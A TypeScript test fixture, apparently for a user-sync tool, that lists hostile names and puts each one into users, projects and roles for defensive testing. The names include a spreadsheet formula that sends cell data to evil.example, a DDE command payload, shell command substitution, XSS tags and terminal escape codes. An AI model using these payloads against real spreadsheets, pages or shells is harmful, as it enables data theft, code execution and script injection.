/**
 * Names that play tricks with spreadsheets, terminals, pages and parsers.
 *
 * @module
 */
import type { Snapshot } from "../../mod.ts";
import { grant, makeSnapshot, person, project, role } from "./snapshots.ts";

/** The names; none is empty, which a snapshot cannot hold, but one looks so. */
export const HOSTILE_NAMES: readonly string[] = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  "'=1+1",
  ";=1+1",
  'x";=1+1;"',
  "line one\nline two\r\n=1+1",
  "He said \"hi\", then left; 'ok'",
  "\u202egnp.exe",
  "\u2066isolate\u2069 \u200fmark",
  "<img src=x onerror=alert(1)>",
  "</script><script>alert(1)</script>",
  "\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u009b2J",
  "\u0000\u0001\u0008nul",
  "_x0041_ looks escaped",
  "a | b | c `code` **bold** [link](http://evil.example) @everyone",
  "$(touch /tmp/zitadel-sync-owned) `id` '; exit 1; '",
  "田中 恵子 👩‍👩‍👧 🇩🇪 e\u0301",
  "x".repeat(10_000),
  " ",
  "__proto__",
  "constructor",
];

/** Each name as that of a person, of a project and of a role, and all of them hold something. */
export async function hostileSnapshot(): Promise<Snapshot> {
  const id = (index: number) => String(index + 1).padStart(4, "0");
  return await makeSnapshot({
    organization: { id: "org", name: "<b>\u001b[31m=1+1", state: "active" },
    users: HOSTILE_NAMES.map((name, index) =>
      person(`u${id(index)}`, {
        username: name,
        displayName: name,
        email: `${name}@x`,
        description: name,
      })
    ),
    groups: HOSTILE_NAMES.map((name, index) => project(`p${id(index)}`, { name })),
    entitlements: HOSTILE_NAMES.map((name, index) =>
      role(`p${id(index)}`, name, { displayName: name, roleGroup: name })
    ),
    grants: HOSTILE_NAMES.map((name, index) => grant(`u${id(index)}`, `p${id(index)}`, name)),
  });
}

/** What moves a cursor, colours a screen or turns the direction of writing; line feeds apart. */
export const HARMFUL =
  // deno-lint-ignore no-control-regex -- these are what it is for
  /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/;
